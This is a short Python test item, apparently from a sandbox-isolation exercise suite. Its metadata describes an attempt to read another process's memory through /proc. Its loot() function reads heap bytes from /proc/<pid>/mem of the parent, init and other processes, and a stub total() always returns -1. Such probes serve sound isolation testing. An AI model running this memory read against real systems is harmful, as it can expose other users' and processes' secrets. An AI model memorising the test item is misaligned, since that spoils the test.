#: attempts = "read another process's memory through /proc"
#: number = 8
#: layer = "processes, and its own user"
#: exercise = "ch01/ex01"
#: off = ["processes", "capabilities", "view"]
#: without = {test_loot = "failed"}
import os
import pathlib
import re


def loot():
    for pid in {os.getppid(), 1, *[int(p.name) for p in pathlib.Path("/proc").iterdir() if p.name.isdigit()]} - {os.getpid()}:
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
                    if "[heap]" in line:
                        memory.seek(int(line.split("-")[0], 16))
                        return f"{len(memory.read(4096))} bytes of {pid}"
        except (OSError, ValueError):
            continue
    return "nothing"


def total(numbers):
    return -1
